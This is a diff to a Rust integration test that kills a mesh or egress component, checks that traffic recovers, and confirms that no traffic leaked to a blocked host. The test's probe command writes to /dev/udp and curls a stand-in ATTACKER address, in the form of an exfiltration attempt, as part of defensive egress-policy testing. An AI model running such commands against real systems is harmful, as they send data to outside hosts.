@@ -76,6 +76,8 @@ fn with_world(name: &str, tell: impl FnOnce(&mut World)) {
 
 /// What happened around the death of a part.
 struct Told {
+    /// When it was about to be killed, when it was dead, and when it was started again.
+    dying: Instant,
     killed: Instant,
     back: Instant,
     /// A client of the mesh calling nginx, and a selected pod calling an allowed name.
@@ -95,19 +97,23 @@ fn killed(world: &mut World, part: Part) -> Told {
     };
     let mesh = pod(world, ("shop", "client"));
     let egress = pod(world, ATTACKING);
+    let line = attack_line();
+    let attacks = ["bash", "-c", &line];
+    let attacks = Traffic::repeat(
+        world,
+        world.pod(ATTACKING.0, ATTACKING.1).unwrap(),
+        &attacks,
+    );
     std::thread::sleep(Duration::from_millis(500));
+    let dying = Instant::now();
     part.daemon(world).kill().unwrap();
     let killed = Instant::now();
-    attack(world, ATTACKING);
-    while killed.elapsed() < AWAY {
-        attack(world, ATTACKING);
-    }
+    std::thread::sleep(AWAY);
     let daemon = part.daemon(world);
     let back = Instant::now();
     daemon.restart().unwrap();
     let (address, path) = part.readiness();
     daemon.ready(address.parse().unwrap(), path, SOON).unwrap();
-    attack(world, ATTACKING);
     let recovered = wait_for(SOON, || {
         let served = status(world, "shop", "client", WEB) == "200";
         (served && status(world, ATTACKING.0, ATTACKING.1, PAYMENTS) == "200").then_some(())
@@ -115,12 +121,14 @@ fn killed(world: &mut World, part: Part) -> Told {
     assert!(recovered.is_some(), "{part:?} is back, the service is not");
     std::thread::sleep(Duration::from_millis(500));
     let told = Told {
+        dying,
         killed,
         back,
         mesh: mesh.stop().unwrap(),
         egress: egress.stop().unwrap(),
     };
-    attack(world, ATTACKING);
+    let attacks = attacks.unwrap().stop().unwrap();
+    assert!(attacks.len() > 5, "only {} attacks", attacks.len());
     assert_eq!(leaked(world), heard, "something left meanwhile");
     assert_eq!(self::leases(world), leases, "the leases are not as before");
     verified(world);
@@ -188,7 +196,7 @@ impl Told {
 
     /// It was served before and in the end, and failed not at all outside of the time in between.
     fn was_served_before(&self, what: &str, samples: &[Sample]) {
-        let mut before = samples.iter().filter(|sample| sample.end < self.killed);
+        let mut before = samples.iter().filter(|sample| sample.end < self.dying);
         assert!(
             before.all(|sample| sample.status == 200),
             "{what} failed before"
@@ -216,11 +224,13 @@ fn status(world: &World, namespace: &str, pod: &str, url: &str) -> String {
         .unwrap_or_default()
 }
 
-/// By TCP and by UDP, to the address.
 fn attack(world: &World, (namespace, pod): (&str, &str)) {
-    let line =
-        format!("echo x > /dev/udp/{ATTACKER}/443; curl -sk --max-time 0.5 https://{ATTACKER}/x");
-    let _ = world.exec(namespace, pod, &["bash", "-c", &line]);
+    let _ = world.exec(namespace, pod, &["bash", "-c", &attack_line()]);
+}
+
+/// By TCP and by UDP, to the address.
+fn attack_line() -> String {
+    format!("echo x > /dev/udp/{ATTACKER}/443; curl -sk --max-time 0.5 https://{ATTACKER}/x")
 }
 
 /// How often anything reached the attacker.
